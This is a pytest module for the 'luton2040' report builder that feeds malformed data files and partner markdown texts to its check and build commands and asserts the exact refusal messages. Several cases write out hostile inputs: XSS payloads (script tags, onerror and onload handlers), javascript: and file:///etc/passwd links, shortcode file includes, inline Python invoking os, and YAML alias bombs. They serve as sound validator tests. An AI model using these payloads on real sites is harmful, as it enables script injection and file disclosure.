"""The bad-input corpus, end to end through `luton2040 check` and `luton2040 build`.

Each row of CASES is (case name, file to change, change, expected message lines); a case that uses a
file of tests/fixtures/bad/ takes its expected lines from that file's home test. A data or partner
case runs through both commands and must print exactly those lines, then the summary, exit 1, show
no traceback and leave the previously built _site/ byte-for-byte as it was. Adding a case is one
line. AWKWARD lists valid files in awkward shapes (Excel's "CSV UTF-8" byte-order mark, Windows line
ends, a trailing blank line): they must be accepted and build exactly the same site as the clean files.
"""
from __future__ import annotations

import re
import shutil
from datetime import date
from pathlib import Path
from typing import Callable

import pytest

from safety_helpers import hashes, make_book
from test_partners import CASES as PARTNER_FIXTURES
from test_validate import CASES as DATA_FIXTURES
from luton2040.cli import main
from luton2040.data.load import load
from luton2040.site import downloads

BAD = Path(__file__).resolve().parents[1] / "fixtures" / "bad"
OBS, TARGETS, EDITION = "data/observations.csv", "data/targets.csv", "data/editions/2025.yml"
FOOD, STREETS = "partners/poverty/example-food-project.md", "partners/net-zero/green-streets.md"
NET_ZERO = "chapters/net-zero.qmd"
SUMMARY = "{n} problem(s) found; nothing was built."
#: after the summary of a problem found before the words are checked (every case but WORDS_CASES)
NOT_CHECKED = ("The words of the chapters, progress items and tiles were not checked yet: they will be once the "
               "problems above are fixed.")
TREE = (Path(__file__).resolve().parents[1] / "fixtures" / "minimal" / "figures" / "partners" / "tree.png").read_bytes()
FIXTURE_MESSAGES = dict(DATA_FIXTURES + PARTNER_FIXTURES)

Change = Callable[[Path], None]  # gets the path of the file to change (which may not exist yet)


def use(name: str) -> Change:
    """Replace the file with tests/fixtures/bad/<name>."""
    return lambda path: shutil.copy(BAD / name, path)


def fixture(name: str) -> tuple[Change, list[str]]:
    """Use tests/fixtures/bad/<name>, expecting the messages its home test (test_validate.py or
    test_partners.py) asserts for it: each expected message is written in one place only."""
    return use(name), FIXTURE_MESSAGES[name]


def sub(old: str, new: str) -> Change:
    """Replace the first ``old`` in the file with ``new``."""
    def change(path: Path) -> None:
        text = path.read_text(encoding="utf-8")
        assert old in text, f"{old!r} is not in {path}"
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    return change


def append(text: str) -> Change:
    return lambda path: path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")


def write(text: str) -> Change:
    def change(path: Path) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return change


def also(first: Change, other: str, then: Change) -> Change:
    """Two changes: ``first`` to the case's file, ``then`` to ``other`` (a path in the project)."""
    def change(path: Path) -> None:
        root = next(p for p in path.parents if (p / "_quarto.yml").is_file())
        first(path)
        (root / other).parent.mkdir(parents=True, exist_ok=True)
        then(root / other)
    return change


def big_file(size: int) -> Change:
    return lambda path: path.write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * size)


def write_bytes(data: bytes) -> Change:
    return lambda path: path.write_bytes(data)


def nothing(path: Path) -> None:
    pass


def _bytes(transform: Callable[[bytes], bytes]) -> Change:
    return lambda path: path.write_bytes(transform(path.read_bytes()))


bom = _bytes(lambda b: b"\xef\xbb\xbf" + b)
crlf = _bytes(lambda b: b.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n"))
blank_end = _bytes(lambda b: b + b"\n")
excel = _bytes(lambda b: b"\xef\xbb\xbf" + b.replace(b"\n", b"\r\n") + b"\r\n")

PARTNER = """---
organisation: Example Food Project
priority: poverty
edition: 2025
---

{body}
"""

# (case, file to change, change, expected lines). Data and partner cases: `check` and `build`.
CASES = [
    ("csv-bad-quoting", OBS, *fixture("observations-bad-quoting.csv")),
    ("csv-unclosed-quote", OBS, *fixture("observations-unclosed-quote.csv")),
    ("csv-semicolon-delimiter", OBS, *fixture("observations-semicolons.csv")),
    ("csv-latin-1-bytes", OBS, *fixture("observations-not-utf8.csv")),
    ("csv-blank-line-inside", OBS, *fixture("observations-blank-line-inside.csv")),
    ("csv-missing-column", OBS, *fixture("observations-missing-column.csv")),
    ("csv-extra-column", OBS, *fixture("observations-unknown-column.csv")),
    ("csv-too-many-cells", OBS, *fixture("observations-too-many-cells.csv")),
    ("csv-unknown-measure", OBS, *fixture("observations-unknown-measure.csv")),
    ("csv-duplicate-key", OBS, *fixture("observations-duplicate-key.csv")),
    ("csv-text-in-number-column", OBS, sub("2023-12-31,9.9,", "2023-12-31,nine point nine,"), [
        'data/observations.csv:3:value: "nine point nine" is not a number — write digits with a dot for decimals, e.g. 12.3, or leave the cell blank',
    ]),
    ("csv-comma-decimal", OBS, *fixture("observations-comma-decimal.csv")),
    ("csv-percent-sign", OBS, *fixture("observations-percent-sign.csv")),
    ("csv-negative-percentage", OBS, *fixture("observations-negative-percent.csv")),
    ("csv-period-does-not-parse", OBS, *fixture("observations-period-unparseable.csv")),
    ("csv-period-end-wrong", OBS, *fixture("observations-period-end-mismatch.csv")),
    ("csv-status-not-allowed", OBS, *fixture("observations-status-not-allowed.csv")),
    ("csv-two-baselines", OBS, *fixture("observations-two-baselines.csv")),
    ("milestone-moving-wrong-way", TARGETS, *fixture("targets-milestone-wrong-way.csv")),
    ("target-value-missing", TARGETS, *fixture("targets-value-missing.csv")),
    ("measure-unknown-priority", "data/measures.csv", *fixture("measures-unknown-priority.csv")),
    ("measure-bad-web-address", "data/measures.csv", *fixture("measures-bad-url.csv")),
    ("series-unknown-unit", "data/series.csv", *fixture("series-unknown-unit.csv")),
    ("mis-shares-not-100", "data/mis_bands.csv", *fixture("mis-bands-shares-not-100.csv")),
    ("edition-wrong-year", EDITION, sub("year: 2025", "year: 2024"), [
        'data/editions/2025.yml:2:year: year 2024 does not match the file name 2025.yml — set year: 2025, or rename the file to 2024.yml',
    ]),
    ("edition-broken-yaml", EDITION, *fixture("edition-broken-yaml.yml")),
    ("edition-bad-date", EDITION, sub("data_cutoff: 2025-03-31", "data_cutoff: 31/03/2025"), [
        "data/editions/2025.yml:6:data_cutoff: '31/03/2025' is not a date — write it as YYYY-MM-DD, e.g. 2025-03-31",
    ]),
    ("partner-no-front-matter", FOOD, *fixture("partner-no-front-matter.md")),
    ("partner-broken-yaml", FOOD, *fixture("partner-broken-yaml.md")),
    ("partner-unknown-priority", FOOD, *fixture("partner-unknown-priority.md")),
    ("partner-misspelt-key", FOOD, *fixture("partner-misspelt-key.md")),
    ("partner-duplicate-organisation", "partners/poverty/example-food-project-again.md",
     write(PARTNER.format(body="More about our food parcels.")), [
        'partners/poverty/example-food-project.md:2: Example Food Project already has a 2025 contribution for poverty in partners/poverty/example-food-project-again.md — merge the two texts into one file',
    ]),
    ("partner-missing-image", FOOD, *fixture("partner-image-missing.md")),
    ("partner-oversized-image", STREETS, also(sub("figures/partners/tree.png", "figures/partners/huge.png"),
                                              "figures/partners/huge.png", big_file(3 * 1024 * 1024)), [
        "partners/net-zero/green-streets.md:9: image 'figures/partners/huge.png' is 3.0 MB, more than the 2 MB allowed — make it smaller (about 1600 pixels wide is plenty)",
    ]),
    ("partner-raw-html", FOOD, sub("**sort out debts**", "<b>sort out debts</b>"), [
        'partners/poverty/example-food-project.md:9: raw HTML is not allowed (<b>) — write **bold** instead',
    ]),
    ("partner-img-tag", FOOD, *fixture("partner-inline-img-tag.md")),
    ("partner-script", FOOD, *fixture("partner-script-tag.md")),
    ("partner-javascript-link", FOOD, *fixture("partner-javascript-link.md")),
    ("partner-data-link", FOOD, *fixture("partner-data-link.md")),
    ("partner-iframe", FOOD, *fixture("partner-iframe.md")),
    ("partner-raw-block", FOOD, *fixture("partner-raw-block.md")),
    ("partner-fenced-div", FOOD, *fixture("partner-fenced-div.md")),
    ("partner-heading-level-2", FOOD, *fixture("partner-heading-level-2.md")),
    ("partner-not-utf8", FOOD, *fixture("partner-not-utf8.md")),
    ("partner-unclosed-comment", FOOD, *fixture("partner-unclosed-comment.md")),
]

# The attacks of issue 12: each partner text is refused at `check` (and `build`) with its line.
ATTACK_CASES = [
    ('partner-html-under-a-definition-list', FOOD, write(PARTNER.format(body='Term\n\n:   <script>alert(1)</script>')), [
        'partners/poverty/example-food-project.md:7: definition lists are not supported — write a bullet list (- **term**: what it means)',
    ]),
    ('partner-html-in-a-footnote', FOOD, write(PARTNER.format(body='Our work.[^1]\n\n[^1]: <script>alert(1)</script>')), [
        'partners/poverty/example-food-project.md:7: footnotes are not supported — write the note as a sentence in the text',
    ]),
    ('partner-html-under-a-letter-list', FOOD, write(PARTNER.format(body='a) first\n\n    <script>alert(1)</script>')), [
        'partners/poverty/example-food-project.md:9: raw HTML is not allowed (<script>alert(1)</script>) — write it in plain markdown: **bold**, *italic*, [text](https://…), ![alt](figures/…)',
    ]),
    ('partner-html-under-a-roman-list', FOOD, write(PARTNER.format(body='i. first\n\n    <img src=x onerror=alert(1)>')), [
        'partners/poverty/example-food-project.md:9: raw HTML is not allowed (<img src=x onerror=alert(1)>) — write ![what it shows](figures/…) instead',
    ]),
    ('partner-html-under-a-hash-list', FOOD, write(PARTNER.format(body='#. first\n\n    <svg/onload=alert(1)>')), [
        'partners/poverty/example-food-project.md:9: raw HTML is not allowed (<svg/onload=alert(1)>) — write it in plain markdown: **bold**, *italic*, [text](https://…), ![alt](figures/…)',
    ]),
    ('partner-example-list', FOOD, write(PARTNER.format(body='(@) first\n\n    <b>x</b>')), [
        'partners/poverty/example-food-project.md:7: example lists ((@) items) are not supported — number the list 1. 2. 3.',
        'partners/poverty/example-food-project.md:9: raw HTML is not allowed (<b>) — write **bold** instead',
    ]),
    ('partner-footnote-like-a-link-definition', FOOD, write(PARTNER.format(body='See this.[^n]\n\n[^n]: https://x.org "<script>alert(1)</script>"')), [
        'partners/poverty/example-food-project.md:7: footnotes are not supported — write the note as a sentence in the text',
    ]),
    ('partner-heading-with-handler-attribute', FOOD, write(PARTNER.format(body='### Our year {#h onmouseover="alert(1)//}"}')), [
        'partners/poverty/example-food-project.md:7: attributes in braces ({…}) after a link, span, heading, image or code are not allowed — remove the {…}; to show a brace as text, put a space before it',
    ]),
    ('partner-javascript-link-with-space', FOOD, write(PARTNER.format(body='[x](javascript:alert(1) //)')), [
        "partners/poverty/example-food-project.md:7: link to 'javascript:alert(1)%20//' is not allowed — links must be full web addresses (https://…), mailto: addresses or tel: phone numbers",
    ]),
    ('partner-unclosed-code-fence-then-script', FOOD, write(PARTNER.format(body='We help.\n\n```\ncode\n\n<script>alert(1)</script>')), [
        'partners/poverty/example-food-project.md:12: raw HTML is not allowed (<script>alert(1)</script>) — write it in plain markdown: **bold**, *italic*, [text](https://…), ![alt](figures/…)',
    ]),
    ('partner-svg-onload', FOOD, write(PARTNER.format(body='<svg/onload=alert(1)>')), [
        'partners/poverty/example-food-project.md:7: raw HTML is not allowed (<svg/onload=alert(1)>) — write it in plain markdown: **bold**, *italic*, [text](https://…), ![alt](figures/…)',
    ]),
    ('partner-table-caption-attributes', FOOD, write(PARTNER.format(body='| a | b |\n|---|---|\n| 1 | 2 |\n\n: Caption {#t onclick=alert(1)}')), [
        'partners/poverty/example-food-project.md:11: attributes in braces ({…}) after a link, span, heading, image or code are not allowed — remove the {…}; to show a brace as text, put a space before it',
    ]),
    ('partner-metadata-block-retitles-chapter', FOOD, write(PARTNER.format(body='We help.\n\n---\ntitle: <b>x</b><!--luton2040:split-->\n...\n\nMore.')), [
        'partners/poverty/example-food-project.md:9: a block between a --- line and a --- or ... line is read as page settings, not text — remove the block; to draw a line across the page, leave a blank line after ---',
    ]),
    ('partner-attachment-link', FOOD, write(PARTNER.format(body='We help. <a rel="attachment" href="file:///etc/passwd">report</a>')), [
        'partners/poverty/example-food-project.md:7: raw HTML is not allowed (<a rel="attachment" href="file:///etc/p…) — write [the words](https://…) instead',
    ]),
    ('partner-duplicate-link-reference', FOOD, write(PARTNER.format(body='[a][r] and more.\n\n[r]: https://a.org\n[r]: https://b.org')), [
        "partners/poverty/example-food-project.md:10: pandoc cannot read this (Duplicate link reference '[r]') — correct the markdown on this line",
    ]),
    ('partner-span-attributes', FOOD, write(PARTNER.format(body='We [help]{onclick=alert(1)}.')), [
        'partners/poverty/example-food-project.md:7: attributes in braces ({…}) after a link, span, heading, image or code are not allowed — remove the {…}; to show a brace as text, put a space before it',
    ]),
    ('partner-raw-inline-attribute', FOOD, write(PARTNER.format(body='We `<b>`{=html} help.')), [
        'partners/poverty/example-food-project.md:7: raw output attributes ({=html}) are not allowed — remove the {=…} after the code',
    ]),
    ('partner-reference-definition-attributes', FOOD, write(PARTNER.format(body='See [ref].\n\n[ref]: https://example.org {onclick=alert(1)}')), [
        'partners/poverty/example-food-project.md:9: attributes in braces ({…}) after a link, span, heading, image or code are not allowed — remove the {…}; to show a brace as text, put a space before it',
    ]),
    ('partner-shortcode-include', FOOD, write(PARTNER.format(body='{{< include /etc/hostname >}}')), [
        'partners/poverty/example-food-project.md:7: shortcodes ({{< … >}}) are not allowed in a partner text — remove it; ask the report team to add what it was for',
    ]),
    ('partner-inline-python', FOOD, write(PARTNER.format(body='We raised `{python} 1+1` pounds.')), [
        'partners/poverty/example-food-project.md:7: code in a partner text never runs (`{python} …` works only in chapters) — write the figure or words as plain text',
    ]),
    # Quarto runs a ```{python} line even inside a code block, and both renderers `{python} …` wherever it
    # stands; pandoc writes a partner's code block indented and a typed \` as \`, so each would have run
    ('partner-python-cell-inside-a-code-block', FOOD, write(PARTNER.format(body='We help.\n\n````\n```{python}\nimport os\n```\n````')), [
        'partners/poverty/example-food-project.md:10: a line ```{python} would be run as code by Quarto, even inside a code block — write the language without braces (```python) to show code: code in a partner text never runs',
    ]),
    ('partner-r-cell-inside-a-tilde-code-block', FOOD, write(PARTNER.format(body='~~~\n```{r}\nx <- 1\n```\n~~~')), [
        'partners/poverty/example-food-project.md:8: a line ```{r} would be run as code by Quarto, even inside a code block — write the language without braces (```python) to show code: code in a partner text never runs',
    ]),
    ('partner-inline-python-inside-a-code-block', FOOD, write(PARTNER.format(body="We help.\n\n```\n`{python} __import__('os').getcwd() #`\n```")), [
        'partners/poverty/example-food-project.md:10: `{python} …` between backticks would be run as code by Quarto and the build, even in a code block or after a backslash — write it as plain text, without the braces: code in a partner text never runs',
    ]),
    ('partner-inline-python-between-escaped-backticks', FOOD, write(PARTNER.format(body='We raised \\`{python} 1+1 #\\` pounds.')), [
        'partners/poverty/example-food-project.md:7: `{python} …` between backticks would be run as code by Quarto and the build, even in a code block or after a backslash — write it as plain text, without the braces: code in a partner text never runs',
    ]),
    ('partner-inline-python-inside-double-backticks', FOOD, write(PARTNER.format(body='We raised `` `{python} 1+1` `` pounds.')), [
        'partners/poverty/example-food-project.md:7: `{python} …` between backticks would be run as code by Quarto and the build, even in a code block or after a backslash — write it as plain text, without the braces: code in a partner text never runs',
    ]),
    ('partner-shortcode-in-a-link-title', FOOD, write(PARTNER.format(body='See [our report](https://example.org/r "{{< env HOME >}}").')), [
        'partners/poverty/example-food-project.md:7: {{ followed by < is read as a shortcode ({{< … >}}), which is not allowed in a partner text — remove it, or put a space between {{ and <',
    ]),
    ('partner-braces-around-a-web-address', FOOD, write(PARTNER.format(body='Hover {{<https://example.org/onmouseover=alert(1)>}} here.')), [
        'partners/poverty/example-food-project.md:7: {{ followed by < is read as a shortcode ({{< … >}}), which is not allowed in a partner text — remove it, or put a space between {{ and <',
    ]),
    ('partner-fenced-div-with-class', FOOD, write(PARTNER.format(body='::: {.x}\nhi\n:::')), [
        'partners/poverty/example-food-project.md:7: fenced divs (:::) and <div> blocks are not allowed — remove the ::: lines; the chapter adds its own',
    ]),
    ('partner-html-div', FOOD, write(PARTNER.format(body='<div onclick=x>hi</div>')), [
        'partners/poverty/example-food-project.md:7: fenced divs (:::) and <div> blocks are not allowed — remove the ::: lines; the chapter adds its own',
    ]),
    ('partner-http-link', FOOD, write(PARTNER.format(body='[site](http://example.org)')), [
        "partners/poverty/example-food-project.md:7: link to 'http://example.org' is not allowed — use the https:// address",
    ]),
    ('partner-maths', FOOD, write(PARTNER.format(body='It costs $x^2$ to run.')), [
        'partners/poverty/example-food-project.md:7: maths between $ signs is not supported — write it as text; to show a dollar sign, write \\$',
    ]),
    ('partner-file-link', FOOD, write(PARTNER.format(body='[passwd](file:///etc/passwd)')), [
        "partners/poverty/example-food-project.md:7: link to 'file:///etc/passwd' is not allowed — links must be full web addresses (https://…), mailto: addresses or tel: phone numbers",
    ]),
]

# Data and front-matter inputs that used to end in a traceback, a hang or a silent pass.
LIMIT_CASES = [
    ("number-1e999", OBS, sub("2023-12-31,9.9,", "2023-12-31,1e999,"), [
        'data/observations.csv:3:value: "1e999" is too large — check the number: figures must be below 1,000,000,000,000,000',
    ]),
    ("number-1e26", OBS, sub("2023-12-31,9.9,", "2023-12-31,1e26,"), [
        'data/observations.csv:3:value: "1e26" is too large — check the number: figures must be below 1,000,000,000,000,000',
    ]),
    ("number-full-width-digits", OBS, sub("2023-12-31,9.9,", "2023-12-31,７.３,"), [
        'data/observations.csv:3:value: "７.３" is not a number — write digits with a dot for decimals, e.g. 12.3, or leave the cell blank',
    ]),
    # once read as the years 2023 to 2112: "period_end: … it should be 2112-12-31"
    ("period-year-and-month-as-iso-writes-them", OBS, sub("luton,2023,2023-12-31,9.9,", "luton,2023-12,2023-12-31,9.9,"), [
        "data/observations.csv:3:period: period '2023-12' is not understood — write it as published in one of these "
        "forms: 2023, 2023/24 or 23/24 (financial year), 2017-19 (years), Sep-24 (month), 8/1/2024 (day) or Q1 2024",
    ]),
    ("csv-nul-byte", OBS, sub("ok,false,,\n", "ok,false,a\x00b,\n"), [
        'data/observations.csv:3:note: contains an invisible control character (such as NUL) — delete it: retype the cell, or save the file again as plain CSV (UTF-8)',
    ]),
    ("edition-february-30", EDITION, sub("publication_date: 2025-03-31", "publication_date: 2025-02-30"), [
        "data/editions/2025.yml:5:publication_date: '2025-02-30' is not a date — write it as YYYY-MM-DD, e.g. 2025-03-31",
    ]),
    ("edition-january-32", EDITION, sub("publication_date: 2025-03-31", "publication_date: 2025-01-32"), [
        "data/editions/2025.yml:5:publication_date: '2025-01-32' is not a date — write it as YYYY-MM-DD, e.g. 2025-03-31",
    ]),
    ("edition-date-with-time", EDITION, sub("data_cutoff: 2025-03-31", "data_cutoff: 2025-02-28 10:00:00"), [
        "data/editions/2025.yml:6:data_cutoff: '2025-02-28 10:00:00' is not a date — write it as YYYY-MM-DD, e.g. 2025-03-31",
    ]),
    ("edition-focus-areas-a-number", EDITION, sub("focus_areas:\n", "focus_areas: 5\nold_focus_areas:\n"), [
        "data/editions/2025.yml:8:focus_areas: should be a list — write one '- item' line per focus area under focus_areas:",
        "data/editions/2025.yml:9: unknown key 'old_focus_areas' — remove it (keys: year, title, publication_date, data_cutoff, pdf_name, focus_areas, subtitle, welcome_author)",
    ]),
    ("edition-yaml-alias-bomb", EDITION, sub("year: 2025\n", "year: 2025\nbomb: &a [x, x]\nbomb2: [*a, *a]\n"), [
        'data/editions/2025.yml:4: uses the YAML alias *a — write the value out in full; anchors (&) and aliases (*) are not allowed',
    ]),
    ("edition-duplicate-key", EDITION, sub("year: 2025\n", "year: 2025\ntitle: Again\n"), [
        "data/editions/2025.yml:4: the key 'title' is written twice (first on line 3) — keep one of the two lines",
    ]),
    ("partner-yaml-alias-bomb", FOOD, write("---\norganisation: Example Food Project\npriority: poverty\nedition: 2025\nx: &a [l, l]\ny: [*a, *a]\n---\n\nText.\n"), [
        'partners/poverty/example-food-project.md:6: uses the YAML alias *a — write the value out in full; anchors (&) and aliases (*) are not allowed',
    ]),
    ("partner-duplicate-key", FOOD, write("---\norganisation: Example Food Project\norganisation: Other\npriority: poverty\nedition: 2025\n---\n\nText.\n"), [
        "partners/poverty/example-food-project.md:3: the key 'organisation' is written twice (first on line 2) — keep one of the two lines",
    ]),
    ("partner-organisation-on-two-lines", FOOD, write('---\norganisation: "Food\\n\\n<script>x</script>"\npriority: poverty\nedition: 2025\n---\n\nText.\n'), [
        'partners/poverty/example-food-project.md:2: organisation should be one line of at most 200 characters — write the name alone on the organisation: line',
    ]),
    ("partner-file-too-large", FOOD, write(PARTNER.format(body="Words. " * 12000)), [
        'partners/poverty/example-food-project.md: is 82 KB, more than the 64 KB allowed for one contribution — shorten the text (images go in figures/, not in the file)',
    ]),
    ("measure-source-url-adds-attribute", "data/measures.csv", sub("https://www.jrf.org.uk", "https://evil.org/){onclick=alert(1)}x("), [
        'data/measures.csv:2:source_url: "https://evil.org/){onclick=alert(1)}x(" is not a plain https:// web address — write the full address starting with https://, without spaces, quotes, brackets or braces',
    ]),
]

# What a new user did on a fresh clone (seventh session): Word, Excel and phone habits.
NEW_USER_CASES = [
    ("edition-misspelt-optional-key", EDITION, sub("subtitle: Change today", "sub_title: Change today"), [
        "data/editions/2025.yml:4: unknown key 'sub_title' — rename it to subtitle",
    ]),
    ("csv-zero-width-space-in-an-id", OBS, sub("destitution,all,luton,2023,", "destitution\u200b,all,luton,2023,"), [
        'data/observations.csv:3:measure: contains an invisible zero width space (U+200B) after "destitution", usually pasted from a web page or a document — delete it: retype the cell',
    ]),
    ("csv-figure-dated-in-the-future", OBS, append("destitution,all,luton,2062,2062-12-31,5.0,ok,false,,\n"), [
        f"data/observations.csv:13:period_end: 2062-12-31 is in the future (today is {{today}}) — check the year and the period: a published figure is for a period that has ended",
    ]),
    # Excel keeps a row it once used or formatted as a line of commas: it was called a "blank line inside the data"
    ("csv-excel-row-of-commas-at-the-end", OBS, append(",,,,,,,,,\n"), [
        "data/observations.csv:13: row has no values, only commas (Excel saves a row that was once used or formatted "
        "so) — delete the row: in Excel, select the empty rows below the table and delete them (Delete Sheet Rows), "
        "then save again",
    ]),
    # the period is the row's key, so the same year typed again with a no-break space was a second, unnamed figure
    ("csv-same-period-typed-with-a-no-break-space", OBS, append("destitution,all,luton,2023\u00a0,2023-12-31,9.8,ok,false,,\n"), [
        "data/observations.csv:13:period: a second figure for destitution all luton ending 2023-12-31: period '2023\\xa0' "
        "ends on the same day as period '2023' on line 3 (the two differ only in their spaces) — keep one figure per "
        "period: delete one of the two rows, or correct its period and period_end",
    ]),
    ("partner-list-pasted-with-bullets", FOOD, append("\n• Food parcels\n• Debt advice\n"), [
        "partners/poverty/example-food-project.md:18: a line starting with a bullet (•) is not a list item in markdown: the lines would run together into one paragraph — start each item on its own line with - and a space (a hyphen, not a bullet)",
    ]),
    ("partner-front-matter-with-long-dashes", FOOD, _bytes(lambda b: b.replace(b"---\n", "—\n".encode())), [
        "partners/poverty/example-food-project.md:1: the first line is '—', not three hyphens: a word processor turns --- into a long dash — type --- (three hyphens) on this line and on the line that closes the front matter, in a plain-text editor",
    ]),
    ("partner-template-name-left-in", FOOD, sub("organisation: Example Food Project", "organisation: Name of the organisation"), [
        "partners/poverty/example-food-project.md:2: organisation 'Name of the organisation' is the template's placeholder — write the organisation's own name, as it should be printed",
    ]),
    ("partner-heic-photo-called-jpg", STREETS, also(sub("figures/partners/tree.png", "figures/partners/photo.jpg"),
                                                    "figures/partners/photo.jpg", write_bytes(b"\0\0\0\x18ftypheic" + b"\0" * 64)), [
        "partners/net-zero/green-streets.md:9: image 'figures/partners/photo.jpg' is not really a png, jpg, gif or webp picture: the file holds an iPhone HEIC photo — open it in an image editor and export it as .jpg or .png",
    ]),
    ("partner-photo-cut-short", STREETS, also(sub("figures/partners/tree.png", "figures/partners/planting.jpg"),
                                              "figures/partners/planting.jpg", write_bytes(b"\xff\xd8\xff\xe0" + b"\0" * 64)), [
        "partners/net-zero/green-streets.md:9: image 'figures/partners/planting.jpg' cannot be read as a picture: the file is damaged or cut short — open the original in an image editor and export it again as .jpg or .png",
    ]),
    # a photo copied while it was still downloading: it passed the check and stopped the PDF with "Failed to load image"
    ("partner-picture-cut-short", STREETS, also(sub("figures/partners/tree.png", "figures/partners/photo.png"),
                                                "figures/partners/photo.png", write_bytes(TREE[:len(TREE) // 2])), [
        "partners/net-zero/green-streets.md:9: image 'figures/partners/photo.png' cannot be read as a picture: the file is damaged "
        "or cut short — open the original in an image editor and export it again as .jpg or .png",
    ]),
    ("partner-emoji", FOOD, append("\nThank you to every volunteer 🎉\n"), [
        "partners/poverty/example-food-project.md:18: the character 🎉 (party popper, U+1F389) cannot be printed: the report's font has no such character — remove it, or say it in words (→ as 'to', ≥ as 'at least')",
    ]),
    ("partner-order-left-blank", FOOD, sub("order: 1\n", "order:\n"), [  # once "order 'None' is not a whole number"
        "partners/poverty/example-food-project.md:6: order is blank — write a number such as 1, or remove the line",
    ]),
    # a paragraph pasted with a tab before it was published as a block of computer code
    ("partner-paragraph-indented-with-a-tab", FOOD, sub("### What we did", "\tWe thank every volunteer.\n\n### What we did"), [
        "partners/poverty/example-food-project.md:13: a line indented by a tab or four spaces is shown as computer "
        "code, in a typewriter font — remove the tab or spaces at the start of the line; for code on purpose, put a "
        "line ``` above it and another below it",
    ]),
    # pandoc reads a backslash before letters as LaTeX: the message spoke of "{=tex}", which is not in the text
    ("partner-windows-folder-path", FOOD, append("\nOur forms are in C:\\Users\\food.\n"), [
        "partners/poverty/example-food-project.md:18: a backslash before letters (\\Users) is read as a LaTeX "
        "command, which is not allowed — to show a backslash, write it twice (\\\\); a folder path can be written "
        "with / instead",
    ]),
    ("partner-image-spelt-in-other-capitals", STREETS, sub("figures/partners/tree.png", "figures/partners/Tree.png"), [
        "partners/net-zero/green-streets.md:9: image 'figures/partners/Tree.png' does not exist: the file is called tree.png — write figures/partners/tree.png, capitals exactly as in the file name",
    ]),
]

CASES += ATTACK_CASES + LIMIT_CASES + NEW_USER_CASES

# A misspelt id in a chapter's inline expression or code cell is found by the check (compute/expression_ids.py),
# which `quarto render`'s pre-render step runs too: it stops before Quarto renders any page. It is
# part of the words check, which runs once every file reads: these summaries say nothing is left unchecked.
WORDS_CASES = [
    ("chapter-inline-expression-misspelt-id", "chapters/poverty.qmd",
     append('\nNew figure: `{python} report.latest("no-such-measure")`.\n'), [
        'chapters/poverty.qmd:18: report.latest("no-such-measure"): there is no measure \'no-such-measure\' — use an id '
        'from data/measures.csv',
    ]),
    ("chapter-code-cell-misspelt-priority", NET_ZERO,
     append('\n```{python}\n#| output: asis\nprint(report.needs_work("net-zer0"))\n```\n'), [
        'chapters/net-zero.qmd:23: report.needs_work("net-zer0"): there is no priority \'net-zer0\' — use an id '
        'from data/priorities.csv (closest: net-zero)',
    ]),
    # A report function spelt wrong, curly quotes and a missing backtick: Python errors that used to stop
    # `quarto render` half-way, after it had emptied _site/; the check finds them first.
    ("chapter-inline-expression-misspelt-function", "chapters/poverty.qmd",
     append('\nNew figure: `{python} report.lastest("destitution")`.\n'), [
        'chapters/poverty.qmd:18: report.lastest: there is no such report function — use report.latest',
    ]),
    ("chapter-inline-expression-curly-quotes", "chapters/poverty.qmd",
     append('\nNew figure: `{python} report.latest(\u201cdestitution\u201d)`.\n'), [
        'chapters/poverty.qmd:18: `{python} report.latest(\u201cdestitution\u201d)` has curly quotes, which Python cannot '
        'read — type straight quotes (" or \') instead of curly ones (\u201c \u201d \u2018 \u2019): the editor changed them, '
        'so turn off its smart quotes',
    ]),
]
CASES += WORDS_CASES

# Chapter words saved as "UTF-8 with BOM": Quarto keeps the mark in an included file, so the cell on its first
# line does not run; `check` passed and the build refused a cell "inside the code block opened at line 3".
CASES += [
    ("chapter-words-saved-with-a-byte-order-mark", "chapters/_words.md",
     also(write_bytes(b"\xef\xbb\xbf```{python}\nshare = 1\n```\n\nOur year.\n"), NET_ZERO,
          append("\n{{< include _words.md >}}\n")), [
        "chapters/_words.md:1: starts with an invisible byte-order mark (U+FEFF), which Quarto keeps when a page "
        "includes this file, so its first line is not read as written (a ```{python} cell there does not run, a "
        "heading is printed as text) — save the file as 'UTF-8', not 'UTF-8 with BOM' (Notepad: File, Save as, "
        "Encoding; VS Code: click the encoding in the status bar, Save with Encoding)",
    ]),
    # Pandoc closes a div at the next ::: wherever it is: a callout left open took in the measures table and the
    # partners' texts, and a stray ::: in a chapter's words ended the page's edition block (what followed showed in
    # every edition). Refused by `check`, so that `quarto render` (whose pre-render step runs it) refuses them too.
    ("chapter-div-left-open", "chapters/_words.md",
     also(write("::: {.callout-note}\nWe count every tonne.\n"), NET_ZERO, sub("## Measures", "{{< include _words.md >}}\n\n## Measures")), [
        "chapters/_words.md:1: the div opened here (::: {.callout-note}) is never closed in this file, so it would take "
        "in everything after it — add a line ::: where the div should end",
    ]),
    ("chapter-stray-div-close", "chapters/_words.md",
     also(write("We count every tonne.\n\n:::\n"), NET_ZERO, sub("## Measures", "{{< include _words.md >}}\n\n## Measures")), [
        "chapters/_words.md:3: this ::: line closes no div opened in this file (in a chapter's words it would close the "
        "page's edition block, showing what follows in every edition) — remove it, or add the ::: {…} line it was meant "
        "to close above it",
    ]),
    # the same in a chapter's words where the comms team writes them, chapters/_prose/<year>/ (the review found the
    # check skipped them: they were taken for pages of their own, without a title)
    ("chapter-level-1-heading-in-prose", "chapters/_prose/2025/words.qmd",
     also(write("Our year.\n\n# Our big year\n"), NET_ZERO, append("\n{{< include _prose/2025/words.qmd >}}\n")), [
        "chapters/_prose/2025/words.qmd:3: '# Our big year' is a level-1 heading, but the page's title is its only "
        "one: it would show as large as the title — make it a section heading with two #: ## Our big year",
    ]),
    # a level-1 heading in a chapter's words showed as large as the page's title (one in a comment or code is none)
    ("chapter-level-1-heading", NET_ZERO, append("\n# Our big year\n\n<!--\n# a note\n-->\n\n```\n# code\n```\n"), [
        "chapters/net-zero.qmd:21: '# Our big year' is a level-1 heading, but the page's title is its only one: it "
        "would show as large as the title — make it a section heading with two #: ## Our big year",
    ]),
]

# HTML pasted into a chapter's words from a web page: the engine's page audit refused it only after
# rendering (naming a line of the HTML) and `quarto render` published it; the check (its pre-render step
# too) names the line of the words. A picture from another site told it of every reader.
_PASTED = "remove it: the report's pages carry no script, frames or forms (paste the words, not the web page's HTML)"
CASES += [
